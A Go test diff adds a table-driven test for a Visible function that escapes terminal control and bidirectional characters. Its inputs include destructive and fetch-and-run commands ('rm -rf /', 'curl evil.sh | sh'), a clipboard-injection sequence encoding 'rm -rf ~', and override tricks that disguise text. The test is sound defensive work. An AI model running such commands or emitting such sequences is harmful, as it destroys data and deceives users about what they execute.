@@ -146,3 +146,21 @@ func FuzzStringEnd(f *testing.F) {
 		require.Equal(t, len(q), StringEnd(append(q, rest...), 0))
 	})
 }
+
+// What would act on a terminal is shown as an escape; the rest as it is.
+func TestVisible(t *testing.T) {
+	for in, want := range map[string]string{
+		"rm -rf /":                                   "rm -rf /",
+		"héllo, 世界 \ufffd":                           "héllo, 世界 \ufffd",
+		"ls\x1b[2K\rgit status":                      `ls\x1b[2K\rgit status`,
+		"\x1b]52;c;cm0gLXJmIH4=\x07echo hi":          `\x1b]52;c;cm0gLXJmIH4=\x07echo hi`,
+		"a\nb\tc\x7f":                                `a\nb\tc\x7f`,
+		"\u009b31mred":                               `\u009b31mred`,
+		"\x9b31mred":                                 `\x9b31mred`,
+		"echo safe \u202egnp.exe":                    `echo safe \u202egnp.exe`,
+		"x\u2066y\u2069z\u200e\u200f\u061c":          `x\u2066y\u2069z\u200e\u200f\u061c`,
+		"curl evil.sh | sh \u202a\u202b\u202c\u202d": `curl evil.sh | sh \u202a\u202b\u202c\u202d`,
+	} {
+		require.Equal(t, want, Visible(in), "%q", in)
+	}
+}
